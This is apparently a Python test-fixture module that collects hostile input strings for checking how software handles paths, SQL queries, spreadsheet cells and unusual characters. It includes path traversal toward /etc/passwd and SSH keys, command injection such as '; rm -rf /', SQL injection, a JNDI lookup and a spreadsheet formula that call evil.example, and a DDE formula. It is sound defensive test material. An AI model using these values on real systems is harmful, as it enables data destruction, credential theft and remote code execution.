"""Texts that would be more than text somewhere: on a disk, in a query, on a page, in a terminal, in a spreadsheet."""

from __future__ import annotations

from tests.pages.hostile import TEXTS

PATHS = (
    "..", "../..", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "/dev/zero", "/proc/self/environ", "~", "~root/.ssh/id_rsa",
    "./x", "x/..", "x//y", "x/./y", "C:\\x", "\\\\host\\share", "file:///etc/passwd", "%2e%2e%2f", "..%00/x", "a/b", "a\\b", ".", "...",
    ".owner.lock", ".last-number", ".new-x", ".import-1", ".deleted-x", "results.duckdb", "CON", "NUL", "aux.txt", "-rf", "--help", "$HOME",
    "$(id)", "`id`", "; rm -rf /", "| cat /etc/passwd", "*", "?", "[a-z]*", "{a,b}", "a\nb", "a\rb", "a\tb", "x" * 256, "x/" * 600,
)  # fmt: skip
QUERIES = (
    "'; DROP TABLE runs; --", "' OR '1'='1", "\" OR \"\"=\"", "1); DELETE FROM runs; --", "x' UNION SELECT * FROM read_text('/etc/passwd') --",
    "\\'; ATTACH 'x' AS y; --", "/* */", "--", ";", "'", "''", '"', "$1", "?", ":name", "%s", "{0}", "{x.__class__}", "%n%n%n", "${jndi:ldap://evil.example/a}",
)  # fmt: skip
CELLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example")',
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
)
CHARACTERS = (
    "", " ", "\0", "a\0b", "\x1b[2J", "\x07", "\x7f", "\u202e", "\u200b", "\ufeff", "\u2028", "\ud800", "\udfff\ud800", "é" * 99, "\U0001f600",
    "٣", "１２", "ｅｖｉｌ", "a\u0300" * 50, "\x85", "\x9b31m", "A" * 10_000, "🏴" * 300, "\N{CYRILLIC SMALL LETTER A}dmin",
)  # fmt: skip
HOSTILE = (*PATHS, *QUERIES, *CELLS, *CHARACTERS, *TEXTS)
